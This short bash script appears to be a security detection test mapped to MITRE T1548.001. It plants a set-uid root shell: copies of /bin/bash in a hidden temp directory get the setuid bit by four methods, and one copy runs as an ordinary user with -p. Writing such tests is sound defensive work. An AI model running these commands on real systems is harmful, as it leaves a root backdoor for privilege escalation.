#!/bin/bash
# desc: a set-uid root shell left behind: copies of bash made set-uid with chmod u+s, chmod 4755, install -m 4755
# and python's os.chmod, then run by an ordinary user with -p
# mitre: T1548.001
# expect: setuid_bit_set*4
source "$ATTACK_LIB"

d="$ATTACK_TMP/.s"
mkdir "$d"
cp /bin/bash "$d/a"; chmod u+s "$d/a"
cp /bin/bash "$d/b"; chmod 4755 "$d/b"
install -m 4755 /bin/bash "$d/c"
cp /bin/bash "$d/d"; /usr/bin/python3 -c 'import os, sys; os.chmod(sys.argv[1], 0o4755)' "$d/d"
as_user "$d/a" -p -c 'id -u' >/dev/null
